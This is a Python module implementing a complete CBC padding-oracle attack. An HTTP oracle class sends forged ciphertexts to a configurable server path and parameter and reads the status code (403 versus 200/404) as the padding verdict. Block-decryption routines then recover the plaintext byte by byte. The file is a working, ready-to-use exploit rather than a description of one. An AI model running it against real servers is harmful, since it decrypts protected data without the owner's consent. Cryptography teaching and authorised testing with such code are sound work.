"""CBC padding oracle attack.

A server that decrypts CBC ciphertexts and reports whether the padding was
valid leaks the plaintext one byte at a time.  Changing byte ``j`` of the
block before a target block changes byte ``j`` of the target's plaintext in
the same way.  So a guess ``g`` for that byte can be tested by XORing
``g ^ pad`` into it and asking the oracle whether the padding is valid.
"""

from __future__ import annotations

import socket
from dataclasses import dataclass
from typing import Callable, Union

BLOCK_SIZE = 16

BytesLike = Union[bytes, bytearray, memoryview]
Oracle = Callable[[bytes], bool]

_VALID_STATUSES = frozenset({200, 404})
_INVALID_STATUS = 403
_MAX_RESPONSE = 20480


def parse_status(response: BytesLike) -> int:
    """Return the status code from the status line of an HTTP response."""
    data = bytes(response)
    line = data.split(b"\r\n", 1)[0].split(b"\n", 1)[0]
    parts = line.split(None, 2)
    if len(parts) < 2 or not parts[0].startswith(b"HTTP/"):
        raise ValueError("response does not start with an HTTP status line")
    code = parts[1]
    if len(code) != 3 or not code.isdigit():
        raise ValueError(f"invalid status code {code!r}")
    return int(code)


@dataclass(frozen=True)
class HttpPaddingOracle:
    """Ask a web server whether a hex-encoded ciphertext has valid padding.

    The server answers 403 for invalid padding and 404 (or 200) when the
    padding is valid.
    """

    host: str
    port: int = 80
    path: str = "/po"
    parameter: str = "er"
    timeout: float = 10.0

    def _request(self, ciphertext: bytes) -> bytes:
        return (
            f"GET {self.path}?{self.parameter}={ciphertext.hex()} HTTP/1.1\r\n"
            f"Host: {self.host}\r\n"
            "Accept: */*\r\n"
            "Connection: close\r\n"
            "\r\n"
        ).encode("ascii")

    def _exchange(self, request: bytes) -> bytes:
        with socket.create_connection((self.host, self.port), self.timeout) as conn:
            conn.sendall(request)
            response = bytearray()
            while b"\n" not in response and len(response) < _MAX_RESPONSE:
                chunk = conn.recv(_MAX_RESPONSE)
                if not chunk:
                    break
                response += chunk
        return bytes(response)

    def __call__(self, ciphertext: BytesLike) -> bool:
        """Send the ciphertext; True when the server accepted its padding."""
        status = parse_status(self._exchange(self._request(bytes(ciphertext))))
        if status in _VALID_STATUSES:
            return True
        if status == _INVALID_STATUS:
            return False
        raise RuntimeError(f"unexpected HTTP status {status}")


def _check_block(name: str, value: BytesLike) -> bytes:
    data = bytes(value)
    if len(data) != BLOCK_SIZE:
        raise ValueError(f"{name} must be {BLOCK_SIZE} bytes, not {len(data)}")
    return data


def _candidates(pad: int) -> list[int]:
    # The guess equal to the pad value can leave the block unchanged and
    # so be accepted for the original padding; it is tried last.
    return [g for g in range(256) if g != pad] + [pad]


def decrypt_block(previous: BytesLike, block: BytesLike, oracle: Oracle) -> bytes:
    """Recover the plaintext of ``block`` given the block before it.

    ``oracle`` receives a two-block ciphertext and says whether its padding
    is valid.  Raises ``ValueError`` if no guess is accepted for some byte.
    """
    previous = _check_block("previous", previous)
    block = _check_block("block", block)
    plain = bytearray(BLOCK_SIZE)
    for j in reversed(range(BLOCK_SIZE)):
        pad = BLOCK_SIZE - j
        forged = bytearray(previous)
        for k in range(j + 1, BLOCK_SIZE):
            forged[k] ^= plain[k] ^ pad
        for guess in _candidates(pad):
            forged[j] = previous[j] ^ guess ^ pad
            if not oracle(bytes(forged) + block):
                continue
            if j == BLOCK_SIZE - 1:
                # Rule out a longer valid padding such as "02 02".
                probe = bytearray(forged)
                probe[j - 1] ^= 0xFF
                if not oracle(bytes(probe) + block):
                    continue
            plain[j] = guess
            break
        else:
            raise ValueError(f"the oracle accepted no value for byte {j}")
    return bytes(plain)


def padding_oracle_decrypt(ciphertext: Union[str, BytesLike], oracle: Oracle) -> bytes:
    """Decrypt IV-prefixed CBC ciphertext through a padding oracle.

    The ciphertext may be given as bytes or as hex text.  The result keeps
    the padding of the last block.
    """
    data = bytes.fromhex(ciphertext) if isinstance(ciphertext, str) else bytes(ciphertext)
    if len(data) % BLOCK_SIZE or len(data) < 2 * BLOCK_SIZE:
        raise ValueError(
            "ciphertext must be an IV and at least one block, "
            f"in whole {BLOCK_SIZE}-byte blocks"
        )
    blocks = [data[i:i + BLOCK_SIZE] for i in range(0, len(data), BLOCK_SIZE)]
    return b"".join(
        decrypt_block(previous, block, oracle)
        for previous, block in zip(blocks, blocks[1:])
    )